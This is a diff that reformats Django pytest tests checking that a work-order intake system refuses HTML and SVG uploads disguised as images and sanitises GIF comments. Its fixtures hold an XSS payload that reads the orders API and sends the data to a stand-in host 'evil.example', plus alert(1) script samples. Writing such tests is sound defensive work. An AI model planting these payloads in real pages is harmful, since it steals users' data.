@@ -14,10 +14,15 @@ from jiesu.orders.models import Attachment, OrderEvent, WorkOrder
 
 pytestmark = pytest.mark.django_db
 
-SCRIPT = b"<script>fetch('/api/v1/orders/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"
+SCRIPT = (
+    b"<script>fetch('/api/v1/orders/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"
+)
 HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
-SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/>'
-       + SCRIPT + b"</svg>")
+SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/>'
+    + SCRIPT
+    + b"</svg>"
+)
 # No doctype or declaration up front: plain words first, then the markup, past the first 8 KiB.
 PADDED_SVG = "路灯坏了，附上现场说明。\n".encode() * 400 + SVG
 
@@ -44,13 +49,17 @@ def upload(name: str, data: bytes, content_type: str = "image/jpeg") -> SimpleUp
     return SimpleUploadedFile(name, data, content_type=content_type)
 
 
-@pytest.mark.parametrize("name, data", [
-    ("photo.jpg", HTML),
-    ("drawing.svg", SVG),
-    ("现场说明.txt", PADDED_SVG),
-    ("page.htm", b"\xef\xbb\xbf<HTML><BODY onload=alert(1)>hi</BODY></HTML>"),
-    ("data.xml", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
-], ids=["html-as-jpg", "svg", "svg-after-8KiB-of-text", "html-with-bom", "xml"])
+@pytest.mark.parametrize(
+    "name, data",
+    [
+        ("photo.jpg", HTML),
+        ("drawing.svg", SVG),
+        ("现场说明.txt", PADDED_SVG),
+        ("page.htm", b"\xef\xbb\xbf<HTML><BODY onload=alert(1)>hi</BODY></HTML>"),
+        ("data.xml", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
+    ],
+    ids=["html-as-jpg", "svg", "svg-after-8KiB-of-text", "html-with-bom", "xml"],
+)
 def test_html_and_svg_are_refused_whatever_their_name_and_nothing_is_written(make_order, name, data):
     before = (WorkOrder.objects.count(), OrderEvent.objects.count(), Attachment.objects.count())
     with pytest.raises(ValidationError) as exc:
@@ -105,10 +114,20 @@ def test_the_orientation_the_exif_asked_for_is_applied_to_the_pixels(make_order)
 def test_png_gif_and_webp_stay_in_their_format_and_animation_keeps_its_frames(make_order):
     frames = [Image.new("RGB", (16, 16), c) for c in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
     gif = io.BytesIO()
-    frames[0].save(gif, format="GIF", save_all=True, append_images=frames[1:], duration=[100, 200, 300], loop=0,
-                   comment=b"<script>alert(1)</script>")
-    files = [upload("a.png", image_bytes("PNG", mode="RGBA"), "image/png"), upload("b.gif", gif.getvalue(), "image/gif"),
-             upload("c.webp", image_bytes("WEBP"), "image/webp")]
+    frames[0].save(
+        gif,
+        format="GIF",
+        save_all=True,
+        append_images=frames[1:],
+        duration=[100, 200, 300],
+        loop=0,
+        comment=b"<script>alert(1)</script>",
+    )
+    files = [
+        upload("a.png", image_bytes("PNG", mode="RGBA"), "image/png"),
+        upload("b.gif", gif.getvalue(), "image/gif"),
+        upload("c.webp", image_bytes("WEBP"), "image/webp"),
+    ]
     order = make_order(attachments=files)
     stored = {a.content_type: a.file.read() for a in order.attachments.all()}
     assert set(stored) == {"image/png", "image/gif", "image/webp"}
@@ -135,11 +154,20 @@ def test_a_decompression_bomb_is_refused(make_order, monkeypatch):
 
 def test_intake_screen_shows_the_refusal_next_to_the_attachments_R10_1(call_taker, client):
     client.force_login(call_taker)
-    response = client.post("/intake/", {
-        "requester_phone": "13912340000", "requester_name": "周九", "requester_type": "natural", "channel": "phone",
-        "source_line": "12345", "kind": "help", "location_text": "海淀区中关村街道", "content": "家门口的井盖丢了，晚上很危险。",
-        "attachments": [upload("井盖.jpg", HTML)],
-    })
+    response = client.post(
+        "/intake/",
+        {
+            "requester_phone": "13912340000",
+            "requester_name": "周九",
+            "requester_type": "natural",
+            "channel": "phone",
+            "source_line": "12345",
+            "kind": "help",
+            "location_text": "海淀区中关村街道",
+            "content": "家门口的井盖丢了，晚上很危险。",
+            "attachments": [upload("井盖.jpg", HTML)],
+        },
+    )
     html = response.content.decode()
     assert response.status_code == 200 and WorkOrder.objects.count() == 0
     assert 'id="error-attachments"' in html and "井盖.jpg" in html and "网页、SVG" in html
